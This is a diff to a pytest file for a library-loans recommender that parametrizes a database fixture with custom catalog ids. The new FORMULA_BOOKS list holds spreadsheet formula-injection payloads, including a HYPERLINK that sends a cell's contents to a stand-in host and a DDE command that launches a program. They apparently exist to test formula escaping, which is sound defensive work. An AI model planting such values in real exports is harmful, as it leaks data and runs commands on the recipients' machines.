@@ -19,11 +19,14 @@ from recsys.privacy import Pseudonymizer
 
 KEY = "serving-commands-key-" + "7" * 32
 BOOKS = [f"b{i}" for i in range(8)]
+#: Catalog ids a spreadsheet would run as formulas (the last two stay plain).
+FORMULA_BOOKS = ['=HYPERLINK("https://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)"]
+FORMULA_BOOKS += ["=cmd|' /C calc'!A0", "+A2", "b6", "b7"]
 
 
-def raw_loans() -> pd.DataFrame:
+def raw_loans(books: list[str] = BOOKS) -> pd.DataFrame:
     rows = [
-        (f"r{r}", BOOKS[(r + j) % 8], 1_700_000_000 + 3600 * (r * 3 + j))
+        (f"r{r}", books[(r + j) % 8], 1_700_000_000 + 3600 * (r * 3 + j))
         for r in range(12)
         for j in range(3)
     ]
@@ -32,10 +35,17 @@ def raw_loans() -> pd.DataFrame:
 
 @pytest.fixture
 def published(
-    db_settings: Settings, engine: Engine, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+    request: pytest.FixtureRequest,
+    db_settings: Settings,
+    engine: Engine,
+    monkeypatch: pytest.MonkeyPatch,
+    tmp_path: Path,
 ) -> Iterator[list[str]]:
-    """Two saved runs of a model of the loans in the database; the first one published."""
-    loans = raw_loans()
+    """Two saved runs of a model of the loans in the database; the first one published.
+
+    The books are `BOOKS` unless the test passes others (indirect parametrization)."""
+    books: list[str] = getattr(request, "param", BOOKS)
+    loans = raw_loans(books)
     loans[C.READER_ID] = Pseudonymizer(KEY.encode()).pseudonymize_series(loans[C.READER_ID])
     with engine.begin() as connection:
         connection.execute(
@@ -45,8 +55,8 @@ def published(
                 for r, b, t in loans.itertuples(index=False)
             ],
         )
-    catalog = pd.DataFrame({C.BOOK_ID: BOOKS, C.TITLE: [f"T{b}" for b in BOOKS]})
-    holdings = pd.DataFrame({C.BOOK_ID: BOOKS, C.LIBRARY_ID: "CEN"})
+    catalog = pd.DataFrame({C.BOOK_ID: books, C.TITLE: [f"T{b}" for b in books]})
+    holdings = pd.DataFrame({C.BOOK_ID: books, C.LIBRARY_ID: "CEN"})
     interactions = loans.assign(
         **{C.TIMESTAMP: pd.to_datetime(loans[C.TIMESTAMP], unit="s", utc=True)}
     )
